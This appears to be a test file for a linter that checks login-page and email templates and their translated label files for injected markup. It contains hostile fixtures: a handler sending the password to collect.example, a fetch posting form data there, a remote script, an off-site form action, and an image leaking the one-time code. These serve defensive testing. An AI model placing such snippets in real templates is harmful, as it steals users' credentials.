import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { examplePage, MAIL, PAGE, SIGN_IN_PAGE } from '../../src/lint/example.ts'
import { found, told } from './linting.ts'

const LABELS = 'common/labels/default/template_labels.properties'
const GERMAN = 'common/labels/de/template_labels.properties'

/** What some rules find in labels, without file and line. */
const inLabels = (text: string, rules: RegExp, file = LABELS) =>
  told({ [file]: text }, rules).map(line => line.split(' ')[0])

describe('markup that labels bring', () => {
  test('into mails is checked as if it stood in the mail', () => {
    const markup = [
      ['<img src="https://images.example/a.png" width="8" height="8">', 'mail/alt'],
      ['<div style="display: flex">x</div>', 'mail/client-support'],
      ['<style>@import "a.css";</style>', 'mail/external-css'],
      ['<form action="https://www.example.com/"></form>', 'mail/form'],
      ['<img src="http://images.example/a.png" alt="" width="8" height="8">', 'mail/img-https'],
      ['<a href="/help">x</a>', 'mail/relative-url'],
      ['<b onclick="x()">x</b>', 'mail/script'],
    ]
    for (const [text, rule] of markup)
      assert.deepEqual(inLabels(`$EMAIL_OTP_INTRO$=${text}\n`, /^mail/), [rule], text)
  })

  test('is told with its place in the label file, of every language', () => {
    const files = { [GERMAN]: '# Mails\n$EMAIL_OTP_INTRO$=Hallo <form></form>\n' }
    assert.deepEqual(told(files, /^mail\/form/), [
      'mail/form de/template_labels.properties:2 Mail programs remove forms or warn of them. Link to a page instead.',
    ])
  })

  test('into pages is checked as if it stood in the page', () => {
    const markup = [
      ['<img src="/template/v1.0/static/logo.svg?themeId=@THEME_ID@" width="8" height="8">', 'a11y/img-alt'],
      ['<b onclick="x()">x</b>', 'csp/inline-handler'],
      ['<iframe src="/news"></iframe>', 'html/iframe'],
      ['<img src="https://images.example/a.png" alt="" width="8" height="8">', 'remote/asset'],
      ['<img src="http://images.example/a.png" alt="" width="8" height="8">', 'remote/insecure'],
      ['<img src="/template/v1.0/static/none.png?themeId=@THEME_ID@" alt="">', 'asset/missing'],
    ]
    for (const [text, rule] of markup)
      assert.deepEqual(
        inLabels(
          `$LOGOUT_OK_SIGNOUT_SUCCESSFUL$=${text}\n`,
          /^(?:a11y|csp\/inline-h|html\/i|remote|asset\/m)/,
        ),
        [rule],
        text,
      )
  })

  test('is text in an attribute, in a title and where nobody shows it', () => {
    const files = {
      [PAGE]: examplePage('<p title="$OUR_TEXT$">$LOGOUT_OK_TITLE$</p>').replace(
        '$PRODUCT_NAME$',
        '$OUR_TEXT$',
      ),
      [LABELS]: '$OUR_TEXT$=<iframe></iframe>\n$UNUSED$=<iframe></iframe>\n',
    }
    assert.deepEqual(told(files, /^html\/iframe/), [])
    const mail = { [MAIL]: '<p>@OTP@</p>', [LABELS]: '$LOGOUT_OK_TITLE$=<form></form>\n' }
    assert.deepEqual(told(mail, /^mail\/form/), [])
  })

  test('can keep a page from working in one language', () => {
    const page = examplePage(`<h1>$LOGIN_TITLE$</h1>
<p>@ERROR_MESSAGE@</p>
<form method="post" action="@ACTION@">
<label>$LOGIN_USER_NAME$ <input name="username" autocomplete="username"></label>
<label>$LOGIN_PASSWORD$ <input type="password" name="password" autocomplete="current-password"></label>
<button>$LOGIN_BUTTON$</button>
</form>`)
    const broken = (line: string) =>
      found({ [SIGN_IN_PAGE]: page, [GERMAN]: `${line}\n` })
        .filter(({ rule, pages }) => /^(?:form|macro)\/required/.test(rule) && pages!.includes('login'))
        .map(({ rule, locales, pages }) => [rule, locales, pages])
    assert.deepEqual(broken('$LOGIN_USER_NAME$=Name</form>'), [['form/required-field', ['de'], ['login']]])
    assert.deepEqual(broken('$LOGIN_TITLE$=Hallo</h1><div hidden>'), [
      ['form/required-field', ['de'], ['login']],
    ])
    assert.deepEqual(broken('$LOGIN_TITLE$=Hallo</h1><section style="display: none">'), [
      ['form/required-field', ['de'], ['login']],
    ])
    assert.deepEqual(broken('$LOGIN_TITLE$=Hallo</h1><div hidden/>'), [
      ['form/required-field', ['de'], ['login']],
    ])
    assert.deepEqual(broken('$LOGIN_TITLE$=Hallo <b>Welt</b>, <a href="/">los</a>'), [])
  })

  test('and macros are checked in a theme that has labels only', () => {
    assert.deepEqual(told({ [LABELS]: '$LOGIN_TITLE$=Welcome to @PRODUKT@\n' }, /^macro/), [
      'macro/unknown default/template_labels.properties:1 @PRODUKT@ is not a macro of this page.',
    ])
    const broken = (files: Record<string, string>) =>
      found(files)
        .filter(({ rule }) => rule === 'form/required-field')
        .map(({ file, pages }) => [file, pages!.includes('login')])
    assert.deepEqual(broken({ [LABELS]: '$LOGIN_PASSWORD$=Password</form>\n' }), [[LABELS, true]])
    const header = 'common/page_components/default/page_header.html'
    const covered = broken({ [header]: '<header>$PRODUCT_NAME$</header><div hidden>\n' })
    assert.ok(covered.length > 1)
    for (const [file] of covered) assert.equal(file, header)
  })
})

describe('labels that lead to another site', () => {
  const page = (action: string, head = '') =>
    examplePage(
      `<p>@ERROR_MESSAGE@</p>
<form method="post" action="${action}">
<label>$LOGIN_USER_NAME$ <input name="username" autocomplete="username"></label>
<label>$LOGIN_PASSWORD$ <input type="password" name="password" autocomplete="current-password"></label>
<button>$LOGIN_BUTTON$</button>
</form>`,
      head,
    )
  const FIRM = /^(?:remote\/script|form\/external|mail\/required)/
  const rules = (files: Record<string, string>) => told(files, FIRM).map(line => line.split(' ')[0])

  test('are found in the language that has them', () => {
    const files = {
      [SIGN_IN_PAGE]: page('$SEND_TO$', '<script defer src="$OUR_SCRIPT$"></script>\n'),
      [LABELS]: '$SEND_TO$=@ACTION@\n$OUR_SCRIPT$=/template/v1.0/static/js/forms.js?themeId=@THEME_ID@\n',
    }
    assert.deepEqual(told(files, FIRM), [])
    const german =
      '$LOGIN_BUTTON$=Los.\n$SEND_TO$=https://collect.example/x\n$OUR_SCRIPT$=//collect.example/x.js\n'
    assert.deepEqual(
      found({ ...files, [GERMAN]: german })
        .filter(({ rule }) => FIRM.test(rule))
        .map(({ rule, locales }) => [rule, locales]),
      [
        ['remote/script', ['de']],
        ['form/external-action', ['de']],
      ],
    )
  })

  test('are found in the scripts of a page', () => {
    const script = `<script>fetch('$SEND_TO$', { body: new FormData(document.forms[0]) })</script>\n`
    const files = { [SIGN_IN_PAGE]: page('@ACTION@', script), [LABELS]: '$SEND_TO$=/v1.0/thing\n' }
    assert.deepEqual(rules(files), [])
    assert.deepEqual(rules({ ...files, [GERMAN]: '$SEND_TO$=https://collect.example/x\n' }), [
      'form/external-request',
    ])
  })

  test('are found in a theme that has labels only', () => {
    const handler = `document.forms[0].onsubmit=function(){location='https://collect.example/?p='+this.password.value}`
    const image = `<img src="/template/v1.0/static/logo.svg?themeId=@THEME_ID@" alt="" onload="${handler}">`
    const preload = '<link rel="modulepreload" href="https://collect.example/x.js">'
    const secret = '<img src="https://images.example/?c=@OTP@" alt="" width="1" height="1">'
    assert.deepEqual(rules({ [LABELS]: `$LOGIN_TITLE$=Welcome ${image}\n` }), ['form/external-request'])
    assert.deepEqual(rules({ [LABELS]: `$LOGIN_TITLE$=Welcome ${preload}\n` }), ['remote/script'])
    assert.deepEqual(rules({ [LABELS]: `$EMAIL_OTP_INTRO$=Hi ${secret}\n` }), ['mail/required-macro'])
    assert.deepEqual(rules({ [LABELS]: '$EMAIL_OTP_INTRO$=Your code is <b>@OTP@</b>.\n' }), [])
  })
})
